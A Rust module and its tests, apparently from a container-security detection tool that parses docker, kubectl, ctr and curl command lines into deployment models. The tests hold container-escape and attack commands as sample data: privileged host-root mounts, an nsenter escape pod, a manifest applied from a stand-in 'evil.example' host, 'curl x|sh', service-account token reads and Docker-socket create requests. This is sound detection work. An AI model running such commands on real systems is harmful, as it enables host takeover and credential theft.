//! Command lines → [`Deployment`]s, parsed the way each tool parses its own arguments.
//!
//! "The command line contains `docker run`" both misses (`docker -H tcp://x:2375 container
//! run`, `sudo /usr/bin/docker run`, `bash -c "…; docker run …"`) and over-fires (`git
//! commit -m "docker run…"`, `grep`, `man`). Here a command line is split into simple
//! commands (through `sh -c` bodies and wrappers), each judged by its `argv[0]` tool, and
//! each tool's flags are read with that tool's grammar: which flags take a value, `=`
//! forms, clustered short flags, `--` ends. The result is the same model a manifest makes:
//! `docker run --privileged -v /:/host alpine` is a Docker create body, `kubectl run
//! --overrides '{…}'` is a Pod after the JSON merge patch, `curl --unix-socket
//! /var/run/docker.sock -d '{…}' …/containers/create` is a create request.

use crate::docker_api;
use portcullis_model::shell::{self, SHELLS};
use portcullis_model::{
    Container, ContainerKind, ContainerSecurityContext, Deployment, HostPath, ImageRef, Mount,
    Operation, Origin, Outcome, PodSpec, ProcessInfo, Target, Volume,
};
use serde_json::{Map, Value, json};

mod compose;
mod crictl;
mod ctr;
mod docker;
mod helm;
mod http_client;
mod kubectl;

use self::{compose::*, crictl::*, ctr::*, docker::*, helm::*, http_client::*, kubectl::*};

/// What one command line deploys. `base` carries origin, time, actor and process info.
pub fn analyze(argv: &[String], base: &Deployment) -> Vec<Deployment> {
    let mut out = Vec::new();
    for cmd in simple_commands(argv, 0) {
        let refs: Vec<&str> = cmd.iter().map(String::as_str).collect();
        let (tool, args) = shell::unwrap(&refs);
        let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        let tool = tool.to_ascii_lowercase();
        let found = match tool.as_str() {
            "docker" | "podman" | "nerdctl" => docker(&tool, &args, base),
            "docker-compose" | "podman-compose" => compose(&args, base, "docker-compose"),
            "kubectl" | "oc" | "kubectl.exe" => kubectl(&args, base),
            "helm" => helm(&args, base),
            "ctr" => ctr(&args, base),
            "crictl" => crictl(&args, base),
            "curl" | "wget" => http_client(&tool, &args, base),
            _ => Vec::new(),
        };
        for mut d in found {
            if let Some(p) = d.process.as_mut() {
                p.tool = tool.clone();
            }
            out.push(d);
        }
    }
    out
}

/// Split into simple commands: a shell's `-c` body is parsed into its commands (and its
/// substitutions), recursively; any other argv is one command.
fn simple_commands(argv: &[String], depth: usize) -> Vec<Vec<String>> {
    let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
    let (name, _) = shell::unwrap(&refs);
    if depth < 4
        && SHELLS.contains(&name)
        && let Some(body) = shell::script_of(&refs).filter(|b| *b != argv.join(" "))
    {
        return script_commands(&body, depth + 1);
    }
    vec![argv.to_vec()]
}

fn script_commands(script: &str, depth: usize) -> Vec<Vec<String>> {
    let parsed = shell::parse(script);
    let mut out = Vec::new();
    for cmd in parsed.pipelines.iter().flatten() {
        out.extend(simple_commands(&cmd.words, depth));
    }
    for sub in &parsed.subs {
        out.extend(script_commands(sub, depth + 1));
    }
    out
}

fn derive(
    base: &Deployment,
    operation: Operation,
    target: Target,
    pod: Option<PodSpec>,
) -> Deployment {
    Deployment {
        operation,
        outcome: Outcome::Attempted,
        target,
        pod,
        ..base.clone()
    }
}

/// Flag grammar of one tool: which flags take a value.
struct Grammar {
    /// Long flags that take no value (`--rm`); every other long flag takes one.
    long_bools: &'static [&'static str],
    /// Short flags that take a value (`-v`); every other short flag is boolean.
    short_values: &'static str,
}

/// Parsed arguments: flags in order (name without dashes, value) and positionals.
#[derive(Debug, Default)]
struct Parsed {
    flags: Vec<(String, Option<String>)>,
    positionals: Vec<String>,
    /// Words after `--`, or after the first positional when `stop_at_first` is set.
    rest: Vec<String>,
}

impl Parsed {
    fn all(&self, names: &[&str]) -> Vec<String> {
        self.flags
            .iter()
            .filter(|(n, _)| names.contains(&n.as_str()))
            .filter_map(|(_, v)| v.clone())
            .collect()
    }
    fn last(&self, names: &[&str]) -> Option<String> {
        self.all(names).pop()
    }
    /// A boolean flag: present, and not `=false`.
    fn on(&self, names: &[&str]) -> bool {
        self.flags
            .iter()
            .rfind(|(n, _)| names.contains(&n.as_str()))
            .is_some_and(|(_, v)| v.as_deref().is_none_or(|v| !matches!(v, "false" | "0")))
    }
}

/// Parse `args` with a grammar. With `stop_at_first`, everything after the first positional
/// is the command to run (docker run IMAGE CMD…), not flags.
fn parse_args(args: &[String], g: &Grammar, stop_at_first: usize) -> Parsed {
    let mut p = Parsed::default();
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if stop_at_first > 0 && p.positionals.len() >= stop_at_first {
            p.rest.extend(args[i..].iter().cloned());
            break;
        }
        if a == "--" {
            p.rest.extend(args[i + 1..].iter().cloned());
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            if let Some((n, v)) = long.split_once('=') {
                p.flags.push((n.to_string(), Some(v.to_string())));
            } else if g.long_bools.contains(&long) {
                p.flags.push((long.to_string(), None));
            } else {
                p.flags.push((long.to_string(), args.get(i + 1).cloned()));
                i += 1;
            }
        } else if a.len() > 1 && a.starts_with('-') {
            // A cluster of short flags; the first one that takes a value takes the rest of
            // the word, or the next word.
            let chars: Vec<char> = a[1..].chars().collect();
            let mut j = 0;
            while j < chars.len() {
                let c = chars[j];
                if g.short_values.contains(c) {
                    let attached: String = chars[j + 1..].iter().collect();
                    let attached = attached
                        .strip_prefix('=')
                        .map(str::to_string)
                        .unwrap_or(attached);
                    if attached.is_empty() {
                        p.flags.push((c.to_string(), args.get(i + 1).cloned()));
                        i += 1;
                    } else {
                        p.flags.push((c.to_string(), Some(attached)));
                    }
                    break;
                }
                p.flags.push((c.to_string(), None));
                j += 1;
            }
        } else {
            p.positionals.push(a.clone());
        }
        i += 1;
    }
    p
}

/// `/v1.41/containers/create` → `/containers/create`.
pub fn strip_version(path: &str) -> &str {
    crate::docker_route::strip_version(path)
}

/// A process record's deployment skeleton: origin, time, actor, process.
pub fn process_base(
    origin: Origin,
    time: Option<String>,
    user: Option<String>,
    process: ProcessInfo,
) -> Deployment {
    Deployment {
        origin,
        time,
        actor: portcullis_model::Actor {
            user,
            ..Default::default()
        },
        process: Some(process),
        ..Deployment::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(line: &str) -> Vec<Deployment> {
        let argv = shlex::split(line).expect("test line splits");
        let base = process_base(
            Origin::default(),
            None,
            None,
            ProcessInfo {
                command_line: line.into(),
                argv: argv.clone(),
                ..Default::default()
            },
        );
        analyze(&argv, &base)
    }

    #[test]
    fn docker_run_in_every_spelling() {
        for line in [
            "docker run --privileged -v /:/host alpine",
            "sudo /usr/bin/docker -H tcp://10.0.0.5:2375 container run -itd --privileged=true --volume=/:/host alpine sh",
            "bash -c 'cd /tmp; docker run --rm --mount type=bind,src=/,dst=/host --privileged alpine'",
            "podman run --privileged -v /:/host:ro alpine",
        ] {
            let d = run(line);
            assert_eq!(d.len(), 1, "{line}");
            let c = &d[0].pod.as_ref().expect("pod").containers[0];
            assert_eq!(c.security_context.privileged, Some(true), "{line}");
            assert_eq!(c.image.repository(), "library/alpine", "{line}");
            assert_eq!(
                c.mounts[0].host_path.as_ref().map(|h| h.path.as_str()),
                Some("/"),
                "{line}"
            );
        }
        let d = run(
            "docker -H tcp://10.0.0.5:2375 run --pid host --net=host --cap-add ALL --device /dev/sda --security-opt seccomp=unconfined -p 4444:4444 alpine nc -l",
        );
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_pid && p.host_network);
        assert_eq!(d[0].endpoint.as_deref(), Some("tcp://10.0.0.5:2375"));
        let c = &p.containers[0];
        assert_eq!(c.security_context.cap_add, vec!["ALL"]);
        assert_eq!(c.devices, vec!["/dev/sda"]);
        assert_eq!(c.args, vec!["nc", "-l"]);
        assert_eq!(c.ports[0].host_port, Some(4444));
    }

    #[test]
    fn words_that_only_mention_tools_do_not_deploy() {
        for line in [
            "git commit -m 'docker run --privileged -v /:/host alpine'",
            "grep -r 'docker run' .",
            "man docker-run",
            "echo docker run --privileged alpine",
            "docker ps -a",
            "kubectl get pods -A",
            "docker --help",
        ] {
            assert!(run(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn kubectl_run_overrides_are_judged() {
        let d = run(
            r#"kubectl --context kind-atomic-cluster run atomic-nsenter-escape-pod --restart=Never -ti --rm --image alpine --overrides '{"spec":{"hostPID": true, "containers":[{"name":"1","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/bash"],"stdin": true,"tty":true,"securityContext":{"privileged":true}}]}}'"#,
        );
        assert_eq!(d.len(), 1);
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_pid);
        assert_eq!(p.containers.len(), 1);
        assert_eq!(p.containers[0].security_context.privileged, Some(true));
        assert_eq!(p.containers[0].command[0], "nsenter");
        assert_eq!(
            d[0].endpoint.as_deref(),
            Some("context:kind-atomic-cluster")
        );
    }

    #[test]
    fn kubectl_debug_node_and_apply() {
        let d = run("kubectl debug node/worker-1 -it --image=ubuntu --profile=sysadmin");
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_pid && p.host_network);
        assert_eq!(p.node_name.as_deref(), Some("worker-1"));
        assert_eq!(p.containers[0].security_context.privileged, Some(true));
        assert_eq!(
            p.containers[0].mounts[0]
                .host_path
                .as_ref()
                .map(|h| h.path.as_str()),
            Some("/")
        );
        let d = run("kubectl apply -f https://evil.example/ds.yaml -n kube-system");
        assert_eq!(d[0].target.kind, "Manifest");
        assert_eq!(
            d[0].target.name.as_deref(),
            Some("https://evil.example/ds.yaml")
        );
        assert_eq!(d[0].target.namespace.as_deref(), Some("kube-system"));
        let d = run("kubectl create deployment web --image=nginx -- sh -c 'curl x|sh'");
        assert_eq!(d[0].target.kind, "Deployment");
        let d = run(
            "kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        );
        assert_eq!(d[0].operation, Operation::Exec);
        let d = run(
            r#"kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}'"#,
        );
        assert_eq!(d[0].operation, Operation::Patch);
        assert_eq!(
            d[0].pod.as_ref().expect("pod").containers[0]
                .security_context
                .privileged,
            Some(true)
        );
    }

    #[test]
    fn curl_to_the_docker_socket_is_a_create_request() {
        let d = run(
            r#"curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://localhost/v1.41/containers/create?name=x"#,
        );
        assert_eq!(d.len(), 1);
        assert_eq!(
            d[0].endpoint.as_deref(),
            Some("unix:///var/run/docker.sock")
        );
        assert_eq!(d[0].target.name.as_deref(), Some("x"));
        let c = &d[0].pod.as_ref().expect("pod").containers[0];
        assert_eq!(c.security_context.privileged, Some(true));
        let d = run("curl -X POST http://10.0.0.5:2375/containers/abc/start");
        assert_eq!(d[0].operation, Operation::Start);
        assert_eq!(d[0].endpoint.as_deref(), Some("tcp://10.0.0.5:2375"));
        assert!(run("curl https://example.com/index.html").is_empty());
    }

    #[test]
    fn ctr_and_builds() {
        let d = run(
            "ctr -n k8s.io run --privileged --net-host --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest esc sh",
        );
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_network);
        assert_eq!(p.containers[0].security_context.privileged, Some(true));
        assert_eq!(
            p.containers[0].mounts[0]
                .host_path
                .as_ref()
                .map(|h| h.path.as_str()),
            Some("/")
        );
        let d = run("docker build -t t1610 /atomics/T1610/src/");
        assert_eq!(d[0].target.kind, "DockerBuild");
        assert_eq!(d[0].target.name.as_deref(), Some("t1610"));
        assert!(!d[0].pod.as_ref().expect("pod").host_network);
        let d = run("docker build --network=host -t t1610 .");
        assert!(d[0].pod.as_ref().expect("pod").host_network);
        let d = run(
            "docker service create --mode global --name x --mount type=bind,source=/,target=/host alpine",
        );
        assert_eq!(d[0].target.kind, "SwarmService");
    }
}
